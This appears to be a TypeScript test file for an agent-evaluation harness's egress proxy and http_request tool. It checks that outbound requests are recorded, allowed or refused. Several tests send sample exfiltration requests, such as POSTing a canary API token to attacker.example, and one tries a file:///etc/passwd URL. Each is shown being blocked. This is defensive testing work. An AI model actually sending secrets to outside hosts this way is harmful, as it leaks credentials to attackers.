import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createServer as createHttpServer, type Server } from 'node:http';
import { createServer as createHttpsServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { after, before, describe, it } from 'node:test';
import { InvalidOptionError } from '../../src/errors.js';
import { DestinationPolicy } from '../../src/network/destination-policy.js';
import { sendThroughEgress, streamPair } from '../../src/network/egress-client.js';
import { startEgressProxy } from '../../src/network/egress-proxy.js';
import { callHttpRequestTool } from '../../src/targets/http-request-tool.js';
import { runCa, upstreamCa } from '../support/certificate-authorities.js';

/**
 * What an in-process agent sends (the mock and chat agents' http_request) goes through the attempt's
 * egress proxy on an in-memory connection: recorded, allowed and refused exactly like a sandboxed agent's
 * request, with a real proxy and real loopback upstreams.
 */

describe('sendThroughEgress', () => {
  let upstream: Server;
  let port: number;
  before(async () => {
    upstream = createHttpServer((req, res) => {
      const chunks: Buffer[] = [];
      req.on('data', (chunk: Buffer) => chunks.push(chunk));
      req.on('end', () => {
        const body = Buffer.concat(chunks).toString('utf8');
        if (req.url === '/big') res.end('x'.repeat(100_000));
        else res.end(`upstream got ${req.method} ${req.url} ${body}`);
      });
    });
    upstream.listen(0, '127.0.0.1');
    await once(upstream, 'listening');
    port = (upstream.address() as AddressInfo).port;
  });
  after(() => upstream.close());

  it('records a POST to a destination not allowed, body and all, and hands back the 403', async () => {
    const proxy = startEgressProxy();
    try {
      const reply = await sendThroughEgress(proxy, {
        method: 'POST',
        url: 'http://attacker.example/collect?k=1',
        body: 'TIDY_API_TOKEN=canary-1\n',
      });
      assert.equal(reply.status, 403);
      assert.match(reply.text, /attacker\.example:80 refused/);
      const [entry, ...rest] = proxy.evidence().requests;
      assert.deepEqual(rest, []);
      assert.deepEqual(
        [entry?.method, entry?.scheme, entry?.host, entry?.port, entry?.target, entry?.bodyText],
        ['POST', 'http', 'attacker.example', 80, '/collect?k=1', 'TIDY_API_TOKEN=canary-1\n'],
      );
      assert.deepEqual([entry?.disposition, entry?.status], ['refused', 403]);
      assert.equal(proxy.evidence().coverage.complete, true);
    } finally {
      await proxy.close();
    }
  });

  it('forwards to an allowed destination and cuts a long answer at maxResponseBytes', async () => {
    const proxy = startEgressProxy({ allow: [`127.0.0.1:${port}`] });
    try {
      const reply = await sendThroughEgress(proxy, {
        method: 'PUT',
        url: `http://127.0.0.1:${port}/x`,
        body: 'hello',
      });
      assert.deepEqual(reply, { status: 200, text: 'upstream got PUT /x hello', truncated: false });
      const long = await sendThroughEgress(
        proxy,
        { method: 'GET', url: `http://127.0.0.1:${port}/big` },
        { maxResponseBytes: 1000 },
      );
      assert.deepEqual([long.status, long.text.length, long.truncated], [200, 1000, true]);
      assert.deepEqual(
        proxy.evidence().requests.map((entry) => [entry.method, entry.target, entry.disposition]),
        [
          ['PUT', '/x', 'forwarded'],
          ['GET', '/big', 'forwarded'],
        ],
      );
    } finally {
      await proxy.close();
    }
  });

  it('records an https request as a CONNECT and rejects when the proxy refuses the tunnel', async () => {
    const proxy = startEgressProxy();
    try {
      await assert.rejects(
        sendThroughEgress(proxy, { method: 'POST', url: 'https://attacker.example/c', body: 'secret' }),
        /answered the CONNECT to attacker\.example:443 with 403/,
      );
      const [entry] = proxy.evidence().requests;
      assert.deepEqual(
        [entry?.method, entry?.host, entry?.port, entry?.disposition],
        ['CONNECT', 'attacker.example', 443, 'refused'],
      );
    } finally {
      await proxy.close();
    }
  });

  it('sends https through an intercepting proxy when given the run CA: the body inside is evidence', async () => {
    const serverCa = upstreamCa();
    const server = createHttpsServer(serverCa.credentialsFor('127.0.0.1'), (req, res) => {
      req.resume();
      req.on('end', () => res.end('secure hi'));
    });
    server.listen(0, '127.0.0.1');
    await once(server, 'listening');
    const tlsPort = (server.address() as AddressInfo).port;
    const ca = runCa();
    const proxy = startEgressProxy({
      ca,
      allow: [`127.0.0.1:${tlsPort}`],
      upstreamTls: { ca: serverCa.certificatePem },
    });
    try {
      const reply = await sendThroughEgress(
        proxy,
        { method: 'POST', url: `https://127.0.0.1:${tlsPort}/in`, body: 'inside-canary' },
        { ca: ca.certificatePem },
      );
      assert.deepEqual([reply.status, reply.text], [200, 'secure hi']);
      const inner = proxy.evidence().requests[1];
      assert.deepEqual(
        [inner?.method, inner?.target, inner?.bodyText, inner?.intercepted, inner?.disposition],
        ['POST', '/in', 'inside-canary', true, 'forwarded'],
      );
    } finally {
      await proxy.close();
      server.close();
    }
  });

  it('stops at the caller abort and at its timeout, leaving nothing open', async () => {
    // A proxy that never answers: the request hangs until aborted.
    const silent = {
      accept: () => undefined,
      acceptRedirected: () => undefined,
      evidence: () => ({}) as never,
      close: async () => {},
    };
    const controller = new AbortController();
    const pending = sendThroughEgress(
      silent,
      { method: 'GET', url: 'http://a.example/' },
      { signal: controller.signal },
    );
    controller.abort(new Error('stop now'));
    await assert.rejects(pending, /stop now/);
    await assert.rejects(
      sendThroughEgress(silent, { method: 'GET', url: 'http://a.example/' }, { timeoutMs: 50 }),
      /no answer within 50 ms/,
    );
    await assert.rejects(
      sendThroughEgress(silent, { method: 'GET', url: 'file:///etc/passwd' }),
      (error: unknown) =>
        error instanceof InvalidOptionError && /only http and https URLs .*use an http/.test(error.message),
    );
  });

  it('a library caller giving an allow rule with a bad port gets an InvalidOptionError naming the fix', () => {
    assert.throws(
      () => new DestinationPolicy(['api.example.com:0']),
      (error: unknown) => error instanceof InvalidOptionError && /from 1 to 65535/.test(error.message),
    );
    assert.ok(new DestinationPolicy(['api.example.com:443', '[::1]:9000', '*.example.org']));
  });

  it('streamPair carries bytes both ways, and ending one side ends the other', async () => {
    const [a, b] = streamPair();
    const got: string[] = [];
    b.on('data', (chunk: Buffer) => got.push(chunk.toString()));
    a.end('ping');
    await once(b, 'end');
    assert.deepEqual(got, ['ping']);
    a.destroy();
    assert.equal(b.destroyed, true);
  });
});

describe('http_request tool', () => {
  it('sends nothing without an egress proxy (network: none or host), and says why', async () => {
    assert.deepEqual(await callHttpRequestTool({ url: 'http://attacker.example/', method: 'POST' }, {}), {
      ok: false,
      text: 'no network: this attempt has no egress proxy (network: none or host), so nothing is sent',
    });
  });

  it('refuses malformed arguments before sending anything', async () => {
    const proxy = startEgressProxy();
    const egress = { proxy } as never;
    try {
      assert.equal((await callHttpRequestTool({}, { egress })).text, 'http_request needs a string url');
      assert.equal(
        (await callHttpRequestTool({ url: 'http://a.example/', method: 'TRACE' }, { egress })).text,
        'http_request does not send TRACE',
      );
      assert.equal(
        (await callHttpRequestTool({ url: 'http://a.example/', body: 'xx' }, { egress, maxBodyBytes: 1 }))
          .text,
        'the body is larger than 1 bytes',
      );
      assert.deepEqual(proxy.evidence().requests, []);
      const refused = await callHttpRequestTool(
        { url: 'http://attacker.example/c', method: 'post', body: 'b' },
        { egress },
      );
      assert.equal(refused.ok, false);
      assert.match(refused.text, /^HTTP 403\n/);
      assert.equal(proxy.evidence().requests[0]?.method, 'POST');
    } finally {
      await proxy.close();
    }
  });
});
